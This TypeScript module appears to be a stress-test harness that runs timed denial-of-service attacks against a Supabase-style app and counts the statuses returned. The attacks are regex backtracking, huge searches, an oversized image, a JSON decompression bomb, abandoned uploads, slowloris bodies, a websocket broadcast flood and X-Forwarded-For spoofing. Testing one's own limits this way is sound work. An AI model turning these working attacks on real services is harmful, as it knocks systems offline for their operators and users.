// One account at one address attacks: regular expressions, huge searches, blank pictures, sockets, unfinished bodies, imports that grow,
// uploads that are never finished.
import { connect } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import { zipSync } from 'fflate'
import sharp from 'sharp'
import WebSocket from 'ws'

export interface Account {
  readonly url: string
  readonly anonKey: string
  readonly token: string
  readonly userId: string
  /** The address in the proxy's header. */
  readonly address: string
}

/** How often each status was answered, by kind of attack. */
export type Answers = Record<string, Record<string, number>>

export async function runAttacks(account: Account, seconds: number): Promise<Answers> {
  let until = Number.POSITIVE_INFINITY
  const answers: Answers = {}
  const count = (kind: string, status: number | string) => {
    const statuses = answers[kind] ?? {}
    answers[kind] = { ...statuses, [status]: (statuses[status] ?? 0) + 1 }
  }
  const ask = (path: string, body?: unknown) =>
    fetch(account.url + path, {
      method: body === undefined ? 'GET' : 'POST',
      headers: headersOf(account),
      signal: AbortSignal.timeout(60_000),
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    }).then(async (answer) => {
      await answer.arrayBuffer()
      return answer.status
    })
  const repeat = (kind: string, lanes: number, attack: () => Promise<number | string>) =>
    Array.from({ length: lanes }, async () => {
      while (performance.now() < until) {
        const status = await attack().catch(() => 'closed')
        count(kind, status)
        // A refused client retries soon, but not in a busy loop.
        await setTimeout(status === 429 || status === 'closed' ? 50 : 0)
      }
    })

  const note = { user_id: account.userId, content: 'export '.repeat(7000) }
  for (let n = 0; n < 10; n++) await ask('/rest/v1/captures', { ...note, title: `Long ${n}` })
  // The note of the uploads.
  await ask('/rest/v1/captures', { ...note, id: account.userId })
  const picture = (await blankPicture()).toString('base64')
  const search = { p_query: 'export '.repeat(128_000) }
  const words = encodeURIComponent(`'${'a & '.repeat(2000)}b'`)
  const regex = encodeURIComponent('(.*)*\\1(.*)*\\2x')
  until = performance.now() + seconds * 1000
  await Promise.all([
    ...repeat('regular expression', 30, () => ask(`/rest/v1/captures?select=id&content=match.${regex}`)),
    ...repeat('long fts', 5, () => ask(`/rest/v1/captures?select=id&content=fts.${words}`)),
    ...repeat('search of 900 kB', 5, () => ask('/rest/v1/rpc/search_captures', search)),
    ...repeat('blank picture', 4, () =>
      ask('/functions/v1/google-vision-ocr', { imageBase64: picture, platform: 'desktop' }),
    ),
    ...repeat('import that grows', 4, () => sendBomb(account)),
    ...repeat('unfinished upload', 4, () => beginUpload(account)),
    ...repeat('unfinished body', 80, () => unfinishedBody(account, until)),
    ...repeat('socket', 400, () => flood(account, until)),
  ])
  return answers
}

export function headersOf({ anonKey, token, address }: Omit<Account, 'url' | 'userId'>): Record<string, string> {
  return {
    apikey: anonKey,
    Authorization: `Bearer ${token}`,
    'Content-Type': 'application/json',
    'X-Forwarded-For': address,
  }
}

const blankPicture = () =>
  sharp({ create: { width: 8000, height: 5000, channels: 3, background: 'white' } })
    .png({ compressionLevel: 9 })
    .toBuffer()

/** A ZIP file of 50 kB. Its notes.json has 49 MB of empty lists, which take gigabytes when they are parsed. */
const BOMB = zipSync({ 'notes.json': [Buffer.from(`[${'[],'.repeat(16_000_000)}1]`), { level: 9 }] })

async function sendBomb(account: Account): Promise<number> {
  const headers = { ...headersOf(account), 'Content-Type': 'application/octet-stream', 'X-File-Name': 'notes.zip' }
  const signal = AbortSignal.timeout(60_000)
  const answer = await fetch(`${account.url}/functions/v1/import`, {
    method: 'POST',
    headers,
    body: BOMB,
    signal,
  })
  await answer.arrayBuffer()
  return answer.status
}

async function beginUpload(account: Account): Promise<number> {
  const encoded = (text: string) => Buffer.from(text).toString('base64')
  const name = `${account.userId}/${account.userId}/${Math.random()}.bin`
  const headers = {
    ...headersOf(account),
    'Tus-Resumable': '1.0.0',
    'Upload-Length': '1000000',
    'Upload-Metadata': `bucketName ${encoded('attachments')},objectName ${encoded(name)}`,
  }
  return (await fetch(`${account.url}/storage/v1/upload/resumable`, { method: 'POST', headers })).status
}

/** Sends nearly all of 15 MB and then stops. Returns the answer's status, or "kept" if there was none in time. */
function unfinishedBody(account: Account, until: number): Promise<string> {
  return new Promise((resolve) => {
    const head = Object.entries({ ...headersOf(account), Host: 'localhost', 'Content-Length': BODY.length })
    const socket = connect(Number(new URL(account.url).port), '127.0.0.1', () => {
      const lines = head.map(([name, value]) => `${name}: ${value}\r\n`).join('')
      socket.write(`POST /functions/v1/google-vision-ocr HTTP/1.1\r\n${lines}\r\n`)
      socket.write(BODY.subarray(1))
    })
    const done = (status: string) => {
      resolve(status)
      socket.destroy()
    }
    socket.setTimeout(Math.max(1, until - performance.now()), () => done('kept'))
    socket.once('data', (data) => done(/ (\d{3}) /.exec(data.toString())?.[1] ?? 'closed'))
    socket.once('close', () => done('closed'))
    socket.on('error', () => done('closed'))
  })
}

const BODY = Buffer.alloc(15_000_000, ' ')

/** A socket in a channel with all others of the account. One in thirty broadcasts as much as it can. */
function flood({ url, anonKey, address }: Account, until: number): Promise<number | string> {
  return new Promise((resolve) => {
    const ws = new WebSocket(`${url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${anonKey}&vsn=2.0.0`, {
      headers: { 'X-Forwarded-For': address },
    })
    const join = ['1', '1', 'realtime:flood', 'phx_join', { config: { broadcast: { self: false } } }]
    const speech = JSON.stringify(['1', '2', 'realtime:flood', 'broadcast', { event: 'e', payload: { text: LONG } }])
    const speaks = Math.random() < 1 / 30
    const speaking = setInterval(() => {
      if (performance.now() > until) ws.terminate()
      else if (speaks && ws.readyState === ws.OPEN && ws.bufferedAmount < LONG.length) ws.send(speech)
    }, 100)
    ws.on('open', () => ws.send(JSON.stringify(join)))
    ws.on('unexpected-response', (_, answer) => {
      resolve(answer.statusCode ?? 0)
      ws.terminate()
    })
    ws.on('close', (code) => {
      clearInterval(speaking)
      resolve(performance.now() > until ? 'kept' : code)
    })
    ws.on('error', () => undefined)
  })
}

const LONG = 'x'.repeat(500_000)
